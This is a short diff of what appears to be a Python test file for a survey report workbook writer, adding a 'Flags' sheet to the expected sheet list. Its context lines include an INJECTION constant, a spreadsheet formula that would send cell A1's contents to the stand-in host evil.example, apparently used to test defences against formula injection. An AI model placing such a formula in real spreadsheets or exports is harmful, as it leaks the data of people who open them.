@@ -19,7 +19,7 @@ from surveyindex.errors import ReportError
 from surveyindex.report import ReportTables, lead_sentences, write_workbook
 
 SHEETS = ["Summary", "Index", "Dimensions", "Profile", "USA vs CHN", "Leads", "Items", "Reliability",
-          "Weighting", "Bases", "Exclusions", "Methodology"]
+          "Flags", "Weighting", "Bases", "Exclusions", "Methodology"]
 INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 DIMS = ["morality", "competence", "culture", "technology", "education"]
 
